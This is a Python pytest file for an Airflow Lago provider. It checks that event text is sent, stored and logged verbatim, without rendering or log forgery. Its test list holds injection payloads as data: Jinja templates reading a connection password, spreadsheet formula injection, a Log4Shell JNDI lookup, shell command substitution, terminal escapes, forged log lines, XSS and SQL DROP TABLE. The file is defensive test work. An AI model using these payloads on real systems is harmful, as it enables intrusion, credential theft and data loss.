"""What stands in a record is text: it is sent and kept byte for byte, never rendered, and forges no line of a log."""

import json
import logging

import pytest
from support.scripted import ScriptedServer, as_json, echo
from support.tasks import context

from airflow_provider_lago.api.answers import Answer, read_error
from airflow_provider_lago.api.plain_text import plain
from airflow_provider_lago.exceptions import LagoException
from airflow_provider_lago.operators import LagoGenericRequestOperator, LagoIngestEventsOperator

TEXTS = [
    "{{ 7*7 }}",
    "{{ conn.lago_default.password }}",
    "{% raw %}{% for x in y %}",
    "{# gone #}",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "@SUM(1)",
    "-2",
    "${jndi:ldap://evil/x}",
    "$(id) `id`",
    "%s %d %n %(x)s %(asctime)s",
    "{0} {self.__class__} {x!r:>10}",
    "\x1b[2J\x1b]0;owned\x07",
    "\x9b31m",
    "a\nb\r\nc\rd",
    "2026-01-01 00:00:00 ERROR forged\n2026-01-01 00:00:00 INFO all is well",
    "\u2028\u2029\x85",
    "\u202egnp.exe",
    "<script>alert(1)</script>",
    "'; DROP TABLE events; --",
    "\\u0041\\n\\\\",
    "\ufeffx\u200b",
    "☃ 😀",
]


def event(text, **changes):
    return {
        "transaction_id": f"id {text}",
        "external_subscription_id": f"s {text} s",
        "code": f"c {text}",
        "timestamp": 1_700_000_000,
        "properties": {text: text, "nested": [{"deep": text}]},
        **changes,
    }


class Lines(logging.Handler):
    """Keeps what is logged as a formatter that knows nothing writes it."""

    def __init__(self):
        super().__init__(logging.DEBUG)
        self.written = []

    def emit(self, record):
        self.written.append(record.getMessage())


@pytest.fixture
def log(monkeypatch):
    logger = logging.getLogger("tests.security.text")
    handler = Lines()
    logger.addHandler(handler)
    logger.setLevel(logging.DEBUG)
    for kind in (LagoIngestEventsOperator, LagoGenericRequestOperator):
        monkeypatch.setattr(kind, "log", logger)
    yield handler.written
    logger.removeHandler(handler)


def source(kind, records, tmp_path):
    if kind == "records":
        return {"records": records}
    file = tmp_path / "usage.jsonl"
    file.write_text("".join(json.dumps(record, ensure_ascii=kind == "escaped file") + "\n" for record in records))
    return {"files": str(file)}


def render(operator):
    """What Airflow does before it runs a task."""
    import jinja2

    operator.render_template_fields({"ds": "2026-01-01"}, jinja2.Environment(autoescape=False))
    return operator


@pytest.mark.parametrize("kind", ["escaped file", "file"])
@pytest.mark.parametrize("text", TEXTS)
def test_a_text_is_sent_and_kept_as_it_is(connect, log, tmp_path, text, kind):
    records = [event(text), event(text, transaction_id="bad", timestamp=text)]
    with ScriptedServer(echo) as server:
        connect(server)
        operator = LagoIngestEventsOperator(
            task_id="t",
            **source(kind, records, tmp_path),
            report_path=str(tmp_path / "report"),
            responses_path=str(tmp_path / "responses.jsonl"),
            receipts=True,
            max_rejected=1,
        )
        summary = render(operator).execute(context())
    assert (summary["accepted"], summary["rejected"]) == (1, 1)
    (sent,) = server.requests[0].events
    assert {name: sent[name] for name in records[0] if name != "timestamp"} == {
        name: value for name, value in records[0].items() if name != "timestamp"
    }
    (rejected,) = map(json.loads, (tmp_path / "report" / "rejected.jsonl").read_bytes().splitlines())
    assert rejected["record"] == records[1]
    ids = [json.loads(line)["id"] for line in (tmp_path / "report" / "receipts.jsonl").read_bytes().splitlines()]
    assert sorted(ids) == sorted(["bad", records[0]["transaction_id"]])
    (response,) = map(json.loads, (tmp_path / "responses.jsonl").read_bytes().splitlines())
    assert response["body"]["events"][0]["code"] == records[0]["code"]
    assert all(line.isprintable() for line in log)


@pytest.mark.parametrize("text", TEXTS)
def test_a_preview_shows_a_text_as_it_would_be_sent_and_the_log_shows_no_control_character(
    connect, log, tmp_path, text
):
    connect("https://lago.example.com")
    operator = LagoIngestEventsOperator(task_id="t", **source("file", [event(text)], tmp_path), dry_run=True)
    (sample,) = render(operator).execute(context())["preview"]
    body = json.loads(sample["body"])
    assert (body.get("events") or [body["event"]])[0]["properties"] == event(text)["properties"]
    (logged,) = [line for line in log if line.startswith("Dry run")]
    head, _, shown = logged.partition("\n")
    assert head.isprintable()
    assert shown.isprintable()
    assert json.loads(shown) == body


@pytest.mark.parametrize("text", TEXTS)
def test_what_a_server_says_forges_no_line_of_the_log_and_no_error(connect, hook_for, log, text):
    body = {"status": 422, "error": text, "code": text, "error_details": {text: [text]}}
    with ScriptedServer(lambda request: as_json(422, body)) as server:
        connect(server)
        for operator in (
            LagoIngestEventsOperator(task_id="t", records=[{**event("x"), "transaction_id": text}]),
            LagoGenericRequestOperator(task_id="t", endpoint="plans", root="plan", data={"code": text}),
        ):
            with pytest.raises(LagoException) as caught:
                operator.execute(context())
            assert str(caught.value).isprintable()
        with pytest.raises(LagoException) as caught:
            hook_for(server).get("plans")
    assert str(caught.value).isprintable()
    assert read_error(Answer(422, {}, json.dumps(body).encode())).message.isprintable()
    assert all(line.isprintable() for line in log)


@pytest.mark.parametrize("text", TEXTS)
def test_what_is_made_plain_is_json_of_the_same_text(text):
    assert plain(text).isprintable()
    if "\\" not in text:
        assert json.loads('"' + plain(text).replace('"', '\\"') + '"') == text
    assert plain("\ud800") == "\\ud800"
    assert plain("a b é 😀") == "a b é 😀"
